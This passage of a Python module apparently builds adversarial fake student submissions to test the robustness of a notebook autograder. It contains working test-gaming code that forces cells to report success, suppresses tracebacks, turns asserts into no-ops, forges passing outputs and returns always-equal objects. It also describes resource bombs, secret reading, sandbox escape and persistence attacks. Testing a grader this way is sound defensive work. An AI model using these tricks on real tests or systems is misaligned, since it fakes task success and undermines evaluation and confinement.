from IPython.core.interactiveshell import ExecutionResult
ExecutionResult.success = property(lambda self: True)
ExecutionResult.raise_error = lambda self: None
_shell = get_ipython()
_shell._showtraceback = lambda *args, **kwargs: None
_run_cell, _run_cell_async = _shell.run_cell, _shell.run_cell_async

def _clean(result):
    result.error_before_exec = result.error_in_exec = None
    return result

def run_cell(*args, **kwargs):
    return _clean(_run_cell(*args, **kwargs))

async def run_cell_async(*args, **kwargs):
    return _clean(await _run_cell_async(*args, **kwargs))

_shell.run_cell, _shell.run_cell_async = run_cell, run_cell_async
'''

_NO_TRACEBACK = '''\
# Errors are never shown.
import sys
get_ipython().showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
'''

_INPUT_TRANSFORMER = '''\
# Any later cell that contains an assert becomes `pass`.
def _no_asserts(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines

get_ipython().input_transformers_post.append(_no_asserts)
'''

_PARTIAL_CREDIT_FORGERY = '''\
# Before every later cell, publish a result: nbgrader reads an execute_result that
# comes before the error as (full) partial credit.
get_ipython().events.register("pre_run_cell",
                              lambda info: get_ipython().displayhook("full marks, please"))
'''

_CLEAR_OUTPUT = '''\
# After every later cell, forget its error and clear its output, the traceback included.
from IPython.display import clear_output

def _hide(result):
    result.error_before_exec = result.error_in_exec = None   # the reply says "ok"
    clear_output()

get_ipython().events.register("post_run_cell", _hide)
'''

_OUTPUT_WIDGET = '''\
# Capture every later cell's output, the traceback included, in a widget, and forget
# the error.
import ipywidgets
_sink = ipywidgets.Output()

def _release(result):
    result.error_before_exec = result.error_in_exec = None   # the reply says "ok"
    _sink.__exit__(None, None, None)

get_ipython().events.register("pre_run_cell", lambda info: _sink.__enter__())
get_ipython().events.register("post_run_cell", _release)
'''

_ALWAYS_EQUAL_SQUARE = '''\
class AlwaysEqual:
    """Equal to everything."""
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0

def square(x):
    """Return x squared."""
    return AlwaysEqual()
'''

_ALWAYS_EQUAL_MEAN = '''\
def mean(xs):
    """Return the arithmetic mean of the non-empty list xs."""
    return AlwaysEqual()
'''

_FLOAT_SUBCLASS_SQUARE = '''\
class Anything(float):
    """A float that says it is equal to everything."""
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
    def __float__(self):
        return self

def square(x):
    """Return x squared."""
    return Anything(0)
'''

_FLOAT_SUBCLASS_MEAN = '''\
def mean(xs):
    """Return the arithmetic mean of the non-empty list xs."""
    return Anything(0)
'''

_HARDCODED_SQUARE = '''\
def square(x):
    """Return x squared."""
    return {3: 9, -2: 4}.get(x)
'''

_HARDCODED_MEAN = '''\
def mean(xs):
    """Return the arithmetic mean of the non-empty list xs."""
    return {(1, 2, 3): 2.0, (2, 4): 3.0}.get(tuple(xs))
'''


# --------------------------------------------------------------------------- #
# Notebook helpers
# --------------------------------------------------------------------------- #
def _grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, key: str) -> int:
    """Index of the cell whose grade_id or cell id is ``key``."""
    for i, cell in enumerate(nb.cells):
        if key in (_grade_id(cell), cell.get("id")):
            return i
    raise KeyError(f"{NAME}: no cell {key!r}")


def _cell(nb, key: str):
    return nb.cells[_index(nb, key)]


def _strip_solution_markers(source: str) -> str:
    keep = [line for line in source.split("\n")
            if not re.match(r"\s*###\s*(BEGIN|END) SOLUTION", line)]
    return "\n".join(keep)


class _Builder:
    """Makes fresh copies of the blank and solved notebooks and numbers learner cells."""

    def __init__(self, source_nb: Path, release_nb: Path):
        self.release = nbformat.read(release_nb, as_version=4)
        source = nbformat.read(source_nb, as_version=4)
        self.answers = {key: _strip_solution_markers(_cell(source, key).source) for key in ANSWER_IDS}
        self.solved = copy.deepcopy(self.release)
        for key in ANSWER_IDS:
            _cell(self.solved, key).source = self.answers[key]
        self.count = 0

    def blank(self):
        return copy.deepcopy(self.release)

    def honest(self):
        return copy.deepcopy(self.solved)

    def code(self, source: str):
        self.count += 1
        return new_code_cell(source=_obscure(source), id=f"learner-{self.count}")

    def markdown(self, source: str):
        self.count += 1
        return new_markdown_cell(source=source, id=f"learner-{self.count}")

    def after(self, nb, key: str, *sources: str):
        """Insert extra code cells (no nbgrader metadata) after cell ``key``."""
        at = _index(nb, key) + 1
        nb.cells[at:at] = [self.code(s) for s in sources]
        return nb

    def at_end(self, nb, *sources: str):
        nb.cells.extend(self.code(s) for s in sources)
        return nb


def _fill(template: str, values: dict[str, object]) -> str:
    for key, value in values.items():
        template = template.replace(f"@{key}@", value if key in ("NONCE", "PORT") else repr(value))
    leftover = re.findall(r"@[A-Z_]+@", template)
    if leftover:
        raise ValueError(f"unfilled placeholders {leftover}")
    return template


def _write_nb(root: Path, student: str, nb, *, name: str = f"{NAME}.ipynb",
              flat: bool = False) -> Path:
    nbformat.validate(nb)
    folder = root / student if flat else root / student / NAME
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    nbformat.write(nb, path)
    return path


# --------------------------------------------------------------------------- #
# The class
# --------------------------------------------------------------------------- #
def write_class(root: Path, source_nb: Path, release_nb: Path, *, tcp_port: int,
                nonce: str) -> list[Attack]:
    """Write the adversarial class into ``root`` (new or empty); return its attacks.

    ``source_nb``: the instructor's ps_tiny.ipynb (solutions, hidden tests) the harness
    grades against; ``release_nb``: the released (blank) one. ``tcp_port``: a port the
    harness listens on; ``nonce``: a short token ([A-Za-z0-9_-]) that names everything an
    attack leaves behind. Only files are written; no attack code is run.
    """
    if not re.fullmatch(r"[A-Za-z0-9_-]{1,64}", nonce):
        raise ValueError(f"nonce: expected 1-64 characters [A-Za-z0-9_-], got {nonce!r}")
    if not (isinstance(tcp_port, int) and 0 < tcp_port < 65536):
        raise ValueError(f"tcp_port: expected 1..65535, got {tcp_port!r}")
    root = Path(root)
    if root.exists() and any(root.iterdir()):
        raise ValueError(f"root: expected an empty or new folder, got {root}")
    root.mkdir(parents=True, exist_ok=True)
    source_nb = Path(source_nb).resolve()
    b = _Builder(source_nb, Path(release_nb))
    values = {
        "NONCE": nonce, "PORT": str(tcp_port),
        "SOURCE_NB": str(source_nb), "SOURCE_DIR": str(source_nb.parent),
        "COURSE_ROOT": str(source_nb.parents[2]), "ROOT": str(root.resolve()),
        "HONEST_NB": str(root.resolve() / "honest" / NAME / f"{NAME}.ipynb"),
    }
    fill = lambda template, **extra: _fill(template, {**values, **extra})  # noqa: E731
    attacks: list[Attack] = []

    def add(student, what, nb, max_score, min_score=0.0, review=None):
        _write_nb(root, student, nb)
        attacks.append(Attack(student, what, float(max_score), float(min_score), review))

    def reject(student, what):
        attacks.append(Attack(student, what, 0.0, 0.0, None, rejected=True))

    # --- baselines -------------------------------------------------------------------
    add("honest", "hands in the solutions", b.honest(), FULL, FULL, review=False)
    add("blank", "hands in the release unchanged", b.blank(), 0, 0, review=False)
    nb = b.blank()
    _cell(nb, "square-solution").source = _HARDCODED_SQUARE
    _cell(nb, "mean-solution").source = _HARDCODED_MEAN
    add("hardcoded", "hard-codes the visible test inputs; the hidden tests fail", nb,
        EXERCISE_1, EXERCISE_1)

    # --- the kernel runs away or dies ---------------------------------------------------
    nb = b.honest()
    _cell(nb, "mean-solution").source = _INFINITE_LOOP
    add("infinite-loop", "spins in mean-solution (mean never defined): per-cell timeout",
        nb, EXERCISE_1)
    nb = b.honest()
    _cell(nb, "mean-solution").source = _IGNORE_SIGINT
    add("ignore-sigint", "ignores SIGINT and SIGTERM, then spins in mean-solution", nb, EXERCISE_1)
    for student, code, what in (
            ("sys-exit", _SYS_EXIT, "calls sys.exit(0) at the top of mean-solution"),
            ("os-exit", _OS_EXIT, "calls os._exit(1) in mean-solution: the kernel dies"),
            ("self-kill", _SELF_KILL, "sends SIGKILL to its own kernel in mean-solution")):
        nb = b.honest()
        _cell(nb, "mean-solution").source = code
        add(student, what, nb, EXERCISE_1)

    # --- resources -----------------------------------------------------------------------
    for student, code, what in (
            ("memory-bomb", _MEMORY_BOMB, "allocates 8 GiB (capped at MemAvailable/2), then in steps"),
            ("fork-bomb", fill(_FORK_BOMB), "starts up to 300 `course-fork-<nonce> 120` children"),
            ("thread-bomb", _THREAD_BOMB, "starts up to 1000 idle threads"),
            ("daemon", fill(_DAEMON), "double-forks a setsid daemon `course-daemon-<nonce> 600`"),
            ("disk-fill", _DISK_FILL, "writes up to 1 GiB to ./fill.bin and to /tmp/fill.bin")):
        add(student, what, b.after(b.honest(), "setup", code), FULL)
    nb = b.after(b.honest(), "setup", _HUGE_OUTPUT)
    add("huge-output", "prints 200 MiB in one cell", nb, FULL)
    nb = b.at_end(b.honest(), _DISPLAY_FLOOD)
    add("display-flood", "emits 50,000 display outputs of 1 kB", nb, FULL)

    # --- confinement ---------------------------------------------------------------------
    for student, code, what in (
            ("symlinks", fill(_SYMLINKS),
             "symlinks /etc/passwd, ../../.., /, source_nb and found notebooks into its cwd"),
            ("proc-snoop", fill(_PROC_SNOOP),
             "reads /proc, probes pids, looks for kernel-*.json and executes code in them"),
            ("network", fill(_NETWORK), "connects to tcp_port on loopback, pypi.org, DNS, host sockets"),
            ("escape-write", fill(_ESCAPE_WRITE, SUBMISSION_DIR=str(root.resolve() / "escape-write" / NAME)),
             "creates files outside its cwd: .., /, course, site-packages, class and course roots"),
            ("persist", fill(_PERSIST),
             "appends to course/__init__.py and test configs, drops a .pth and an IPython startup file")):
        add(student, what, b.after(b.honest(), "setup", code), FULL)
    nb = b.after(b.blank(), "mean-solution", fill(_READ_SECRETS))
    add("read-secrets", "blank; reads source/gradebook/other notebooks and execs their solutions",
        nb, 0)

    # --- feedback leaks ---------------------------------------------------------------------
    nb = b.at_end(b.after(b.honest(), "setup", _ECHO_HOOK), _ECHO_HISTORY)
    add("echo-cells", "prints the source of every cell (pre_run_cell), then In and the history",
        nb, FULL, FULL)
    nb = b.honest()
    nb.cells.insert(1, b.markdown(fill(_HTML_MARKDOWN)))
    b.after(nb, "setup", fill(_HTML_SCRIPT))
    add("html-injection", "puts a <script> in a markdown cell and in an HTML output", nb, FULL, FULL)
    nb = b.after(b.honest(), "setup", _FAKE_HIDDEN_CELL)
    _cell(nb, "square-solution").source += _FAKE_HIDDEN_ANSWER_NOTE
    add("fake-hidden-marker", "writes the hidden-test begin delimiter in its own comments and prints",
        nb, FULL, FULL)

    # --- notebook structure accidents and tampering -----------------------------------------
    nb = b.honest()
    nb.cells = [c for c in nb.cells if _grade_id(c) not in ("square-visible", "mean-warning")]
    add("deleted-tests", "deleted square-visible and mean-warning by accident", nb, FULL, FULL)
    nb = b.honest()
    for key in TEST_IDS:
        _cell(nb, key).metadata["nbgrader"]["grade_id"] = key + "-x"
    add("relabelled-ids", "every test cell's grade_id changed (+'-x')", nb, FULL, FULL)
    nb = b.honest()
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    add("stripped-metadata", "nbgrader metadata removed from every cell (cells copied over)",
        nb, FULL, FULL)
    nb = b.honest()
    for key in ("square-visible", "square-solution"):   # pasted twice, as Jupyter does
        twin = copy.deepcopy(_cell(nb, key))
        twin["id"] = f"{key}-copy"
        nb.cells.insert(_index(nb, key) + 1, twin)
    add("duplicated-cells", "square-solution and square-visible pasted twice", nb, FULL, FULL)
    nb = b.honest()
    nb.nbformat_minor = 4
    for cell in nb.cells:
        cell.pop("id", None)
    add("old-nbformat", "saved by an old Jupyter: nbformat 4.4, no cell ids", nb, FULL, FULL)
    nb = b.honest()
    nb.metadata["kernelspec"] = {"display_name": "Python [conda env:ml]", "language": "python",
                                 "name": "conda-env-ml-py"}
    add("foreign-kernelspec", "kernelspec of the learner's own conda environment", nb, FULL, FULL)
    nb = b.honest()
    _cell(nb, "mean-visible").metadata["nbgrader"]["points"] = 100
    bonus = b.code("pass")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": False, "points": 50,
                                  "schema_version": 3, "solution": False, "task": False}
    nb.cells.insert(_index(nb, "mean-warning") + 1, bonus)
    add("tampered-points", "points 100 on mean-visible, and its own graded cell worth 50", nb, FULL)
    nb = b.honest()
    _cell(nb, "square-solution").metadata["nbgrader"].update(grade=True, points=10)
    add("solution-cell-points", "square-solution marked as a graded cell worth 10", nb, FULL)
    nb = b.blank()
    for key in TEST_IDS:
        cell = _cell(nb, key)
        cell.source = "pass"
        cell.metadata["nbgrader"]["locked"] = False
    add("edited-tests", "blank; every test cell replaced by `pass` and unlocked", nb, 0, 0)
    nb = b.blank()
    for n, key in enumerate(ANSWER_IDS + TEST_IDS, start=1):
        cell = _cell(nb, key)
        cell.execution_count = n
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="all tests passed\n")]
        if key in TEST_IDS:
            cell.outputs.append(nbformat.v4.new_output(
                "execute_result", data={"text/plain": "'passed'"}, execution_count=n))
    add("stale-outputs", "blank; fake passing outputs saved in the file", nb, 0, 0)

    # --- gaming the tests --------------------------------------------------------------------
    nb = b.after(b.blank(), "mean-solution", _MONKEYPATCH)
    add("monkeypatch", "blank; patches math.isclose/numpy/torch comparisons, mean() returns 0.0",
        nb, FULL, review=True)
    for student, code, what in (
            ("ast-transformer", _AST_TRANSFORMER, "blank; AST transformer wraps cells in try/except"),
            ("force-success", _FORCE_SUCCESS,
             "blank; ExecutionResult.success forced, run_cell cleaned, _showtraceback silenced"),
            ("no-traceback", _NO_TRACEBACK, "blank; showtraceback and sys.excepthook are no-ops"),
            ("input-transformer", _INPUT_TRANSFORMER, "blank; cells containing `assert` become `pass`"),
            ("partial-credit-forgery", _PARTIAL_CREDIT_FORGERY,
             "blank; a pre_run_cell hook publishes an execute_result before each cell's error"),
            ("clear-output", _CLEAR_OUTPUT,
             "blank; a post_run_cell hook forgets each cell's error and clears its output"),
            ("output-widget", _OUTPUT_WIDGET,
             "blank; an ipywidgets.Output swallows each cell's output; the error is forgotten")):
        add(student, what, b.after(b.blank(), "setup", code), FULL, review=True)
    nb = b.blank()
    _cell(nb, "square-solution").source = _ALWAYS_EQUAL_SQUARE
    _cell(nb, "mean-solution").source = _ALWAYS_EQUAL_MEAN
    add("always-equal", "answers are objects whose __eq__ is always True", nb, 0, 0)
    nb = b.blank()
    _cell(nb, "square-solution").source = _FLOAT_SUBCLASS_SQUARE
    _cell(nb, "mean-solution").source = _FLOAT_SUBCLASS_MEAN
    add("float-subclass", "answers are a float subclass whose __eq__ is always True", nb, 0, 0)

    # --- bad inputs (rejected) -------------------------------------------------------------
    folder = root / "linked-notebook" / NAME
    folder.mkdir(parents=True)
    (folder / f"{NAME}.ipynb").symlink_to(source_nb)
    reject("linked-notebook", "the submitted notebook is a symlink to the instructor's notebook")
    (root / "linked-folder").mkdir()
    (root / "linked-folder" / NAME).symlink_to(source_nb.parent, target_is_directory=True)
    reject("linked-folder", "<student>/ps_tiny is a symlink to the instructor's source folder")
    (root / "linked-student-dir").symlink_to(source_nb.parent.parent, target_is_directory=True)
    reject("linked-student-dir", "<student> is a symlink to the instructor's source/ folder")
    path = _write_nb(root, "dangling-link", b.honest())
    (path.parent / "notes.txt").symlink_to(f"/nonexistent-{nonce}/notes.txt")
    reject("dangling-link", "honest notebook next to a dangling symlink")
    path = _write_nb(root, "outward-link", b.honest())
    (path.parent / "reference.txt").symlink_to(source_nb)
    reject("outward-link", "honest notebook next to a symlink to the instructor's notebook")
    for student, text, what in (
            ("not-json", "{ this is not a notebook", "the notebook is not JSON"),
            ("json-not-notebook", json.dumps({"cells": "none", "answer": 42}), "valid JSON, not a notebook"),
            ("empty-file", "", "a zero-byte notebook")):
        (root / student / NAME).mkdir(parents=True)
        (root / student / NAME / f"{NAME}.ipynb").write_text(text, encoding="utf-8")
        reject(student, what)
    _write_nb(root, "two-submissions", b.honest())
    _write_nb(root, "two-submissions", b.blank(), flat=True)
    reject("two-submissions", "both <student>/ps_tiny/ps_tiny.ipynb and <student>/ps_tiny.ipynb")
    (root / "empty-folder").mkdir()
    reject("empty-folder", "an empty student folder")
    (root / "empty-assignment-folder" / NAME).mkdir(parents=True)
    reject("empty-assignment-folder", "an empty <student>/ps_tiny/ folder")

    names = [a.student for a in attacks]
    assert len(names) == len(set(names)) and all(re.fullmatch(r"[a-z0-9-]+", n) for n in names), names
    return attacks
